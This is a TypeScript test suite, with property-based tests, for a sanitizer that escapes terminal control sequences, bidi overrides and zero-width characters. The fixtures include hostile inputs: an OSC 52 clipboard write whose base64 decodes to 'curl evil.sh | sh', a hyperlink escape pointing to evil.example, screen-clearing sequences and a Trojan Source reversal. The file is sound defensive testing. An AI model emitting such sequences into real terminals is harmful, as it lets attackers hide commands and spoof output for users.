import fc from 'fast-check';
import {readFileSync} from 'node:fs';
import {describe, expect, it} from 'vitest';
import {hasUnsafeCharacters, safeInline, safeMultiline} from '../src/format/sanitize.js';

const ESC = '\u001b';
const BEL = '\u0007';

describe('safeInline', () => {
  it.each([
    ['ESC alone', ESC, '\\x1b'],
    ['CSI clear screen', `${ESC}[2J${ESC}[H`, '\\x1b[2J\\x1b[H'],
    ['SGR colour', `${ESC}[31mred${ESC}[0m`, '\\x1b[31mred\\x1b[0m'],
    ['OSC 0 window title ended by BEL', `${ESC}]0;pwned${BEL}`, '\\x1b]0;pwned\\x07'],
    ['OSC 52 clipboard write', `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`, '\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07'],
    [
      'OSC 8 hyperlink ended by ST',
      `${ESC}]8;;https://evil.example/${ESC}\\docs${ESC}]8;;${ESC}\\`,
      '\\x1b]8;;https://evil.example/\\x1b\\docs\\x1b]8;;\\x1b\\',
    ],
    ['8-bit CSI (U+009B)', '\u009b2J', '\\x9b2J'],
    ['8-bit OSC and ST (U+009D, U+009C)', '\u009d0;title\u009c', '\\x9d0;title\\x9c'],
    ['C1 range ends', '\u0080|\u0085|\u009f', '\\x80|\\x85|\\x9f'],
    ['BEL', `ding${BEL}`, 'ding\\x07'],
    ['CR overwriting a line', 'approved\rrejected', 'approved\\rrejected'],
    ['backspace', 'abc\b\b\bxyz', 'abc\\x08\\x08\\x08xyz'],
    ['NUL, other C0 and DEL', '\u0000\u0001\u001f\u007f', '\\x00\\x01\\x1f\\x7f'],
    ['newline and tab on one line', 'a\nb\tc', 'a\\nb\\tc'],
    ['bidi embeddings and overrides U+202A–U+202E', 'x\u202ay\u202bz\u202c\u202d\u202e', 'x\\u202ay\\u202bz\\u202c\\u202d\\u202e'],
    ['bidi isolates U+2066–U+2069', '\u2066a\u2067b\u2068c\u2069', '\\u2066a\\u2067b\\u2068c\\u2069'],
    ['bidi marks (LRM, RLM, ALM)', '\u200e\u200f\u061c', '\\u200e\\u200f\\u061c'],
    ['the Trojan Source reversal', 'access = "user\u202e \u2066// admin\u2069 \u2066"', 'access = "user\\u202e \\u2066// admin\\u2069 \\u2066"'],
    ['zero-width space, non-joiner, word joiner, BOM', 'r\u200bu\u200cn\u2060_\ufeff1', 'r\\u200bu\\u200cn\\u2060_\\ufeff1'],
    ['a zero-width joiner between letters', 'ad\u200dmin', 'ad\\u200dmin'],
    ['a zero-width joiner at an emoji edge only', '😀\u200da a\u200d😀 \u200d😀', '😀\\u200da a\\u200d😀 \\u200d😀'],
    ['soft hyphen and line/paragraph separators', 'a\u00adb\u2028c\u2029d', 'a\\xadb\\u2028c\\u2029d'],
  ])('makes %s visible', (_name, input, expected) => {
    expect(safeInline(input)).toBe(expected);
    expect(hasUnsafeCharacters(input)).toBe(true);
  });

  it.each([
    ['ASCII', 'run_abc123 completed in 3m 12s (gpt-4o) — 100% done!'],
    ['CJK', '東京の天気は晴れです。明日は雨でしょう。'],
    ['Korean and Arabic and Hebrew', '안녕하세요 مرحبا שלום'],
    ['Latin with combining accents', 'Cafe\u0301 São Paulo Zürich'],
    ['emoji with skin tones, flags and variation selectors', '👍🏽 🇳🇴 ☀️ 🌦️ ❤️'],
    ['emoji joined by zero-width joiners', '👨‍👩‍👧‍👦 🏳️‍🌈 🧑🏽‍💻 🏃🏽‍♂️ 👩‍🦰'],
    ['backslashes as written', 'C:\\Users\\run\\x1b is text, not an escape'],
  ])('keeps %s unchanged', (_name, text) => {
    expect(safeInline(text)).toBe(text);
    expect(safeMultiline(text)).toBe(text);
    expect(hasUnsafeCharacters(text)).toBe(false);
  });
});

describe('safeMultiline', () => {
  it('keeps newlines, turns tabs into two spaces and makes everything else visible', () => {
    expect(safeMultiline('line 1\nline 2\n\n\tindented')).toBe('line 1\nline 2\n\n  indented');
    expect(safeMultiline('windows\r\nline')).toBe('windows\\r\nline');
    expect(safeMultiline(`${ESC}[2Jgone\n${ESC}]52;c;eA==${BEL}\n\u009b31m\u202eevil`)).toBe(
      '\\x1b[2Jgone\n\\x1b]52;c;eA==\\x07\n\\x9b31m\\u202eevil',
    );
    expect(safeMultiline('\u2028\u2029\u0085')).toBe('\\u2028\\u2029\\x85');
  });

  it('escapes the instructions with terminal escapes in examples/support-desk', () => {
    const page = JSON.parse(readFileSync(new URL('../examples/support-desk/list-page-1.json', import.meta.url), 'utf8')) as {
      data: Array<{id: string; instructions: string | null}>;
    };
    const hostile = page.data.filter((run) => run.instructions !== null && hasUnsafeCharacters(run.instructions.replace(/\n/g, '')));
    expect(hostile.length).toBe(1);
    const shown = safeMultiline(hostile[0]!.instructions!);
    for (const char of [ESC, BEL, '\u009b', '\u202e']) expect(hostile[0]!.instructions).toContain(char);
    expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(shown).toContain('\\x1b[2J');
    expect(shown).toContain('\\u202e');
    expect(shown).toContain('\\x9b');
  });
});

/*
 * Property tests. The forbidden set is written out here from the requirement, not taken from the
 * implementation: C0 controls, DEL, C1 controls, bidi controls, zero-width characters, separators,
 * and the invisible tag characters U+E0000–U+E007F.
 */
function isForbidden(code: number): boolean {
  return (
    code <= 0x1f ||
    (code >= 0x7f && code <= 0x9f) ||
    (code >= 0x202a && code <= 0x202e) ||
    (code >= 0x2066 && code <= 0x2069) ||
    (code >= 0xe0000 && code <= 0xe007f) ||
    [0x061c, 0x200b, 0x200c, 0x200e, 0x200f, 0x2028, 0x2029, 0x2060, 0xfeff].includes(code)
  );
}

const PICTOGRAPHIC = /^\p{Extended_Pictographic}$/u;
const EMOJI_BEFORE_JOINER = /^[\p{Extended_Pictographic}\p{Emoji_Modifier}\ufe0f]$/u;

/** The first offending character of `output`, or null. A ZWJ may stay only between two emoji. */
function firstForbidden(output: string, allowNewline: boolean): string | null {
  const chars = Array.from(output);
  for (const [index, char] of chars.entries()) {
    const code = char.codePointAt(0)!;
    if (code === 0x0a && allowNewline) continue;
    if (code === 0x200d) {
      const before = chars[index - 1] ?? '';
      const after = chars[index + 1] ?? '';
      if (EMOJI_BEFORE_JOINER.test(before) && PICTOGRAPHIC.test(after)) continue;
      return `U+200D between ${JSON.stringify(before)} and ${JSON.stringify(after)}`;
    }
    if (isForbidden(code)) return `U+${code.toString(16).padStart(4, '0')} at ${index}`;
  }
  return null;
}

/** Strings rich in the characters that matter, mixed with any code point at all. */
const hostileString = fc.string({
  unit: fc.oneof(
    fc.constantFrom(ESC, BEL, '\r', '\n', '\t', '\b', '\u0000', '\u007f', '\u0085', '\u009b', '\u009c', '\u009d'),
    fc.constantFrom('\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'),
    fc.constantFrom('\u200b', '\u200c', '\u200d', '\u200e', '\u200f', '\u2060', '\ufeff', '\u2028', '\u2029'),
    fc.constantFrom('[', ']', ';', '\\', 'a', '東', '😀', '👍', '🏽', '\ufe0f', '♂'),
    fc.string({unit: 'binary', minLength: 1, maxLength: 1}),
  ),
  maxLength: 40,
});

describe('sanitize properties', () => {
  it('safeInline leaves no control, bidi or zero-width character, for any string', () => {
    fc.assert(
      fc.property(hostileString, (text) => {
        expect(firstForbidden(safeInline(text), false)).toBeNull();
      }),
      {numRuns: 2000},
    );
  });

  it('safeMultiline leaves none either, except line breaks, and no tab', () => {
    fc.assert(
      fc.property(hostileString, (text) => {
        const shown = safeMultiline(text);
        expect(firstForbidden(shown, true)).toBeNull();
        expect(shown.split('\n').length).toBe(text.split('\n').length);
      }),
      {numRuns: 2000},
    );
  });

  it('is a pure function of its input: same output every time, whatever ran in between', () => {
    fc.assert(
      fc.property(hostileString, hostileString, (text, other) => {
        const inline = safeInline(text);
        const multiline = safeMultiline(text);
        hasUnsafeCharacters(other);
        safeInline(other);
        safeMultiline(other);
        expect(safeInline(text)).toBe(inline);
        expect(safeMultiline(text)).toBe(multiline);
        expect(hasUnsafeCharacters(text)).toBe(hasUnsafeCharacters(text));
      }),
    );
  });

  it('changes exactly the strings hasUnsafeCharacters flags, and is idempotent', () => {
    fc.assert(
      fc.property(hostileString, (text) => {
        const shown = safeInline(text);
        expect(shown !== text).toBe(hasUnsafeCharacters(text));
        expect(hasUnsafeCharacters(shown)).toBe(false);
        expect(safeInline(shown)).toBe(shown);
        expect(safeMultiline(safeMultiline(text))).toBe(safeMultiline(text));
      }),
      {numRuns: 1000},
    );
  });

  it('leaves any string without such characters unchanged', () => {
    const plain = fc.string({unit: 'binary'}).filter((text) => firstForbidden(text, false) === null && !/[\u00ad\u180e\u206a-\u206f\ufff9-\ufffb]/.test(text));
    fc.assert(
      fc.property(plain, (text) => {
        expect(safeInline(text)).toBe(text);
        expect(safeMultiline(text)).toBe(text);
      }),
      {numRuns: 1000},
    );
  });
});
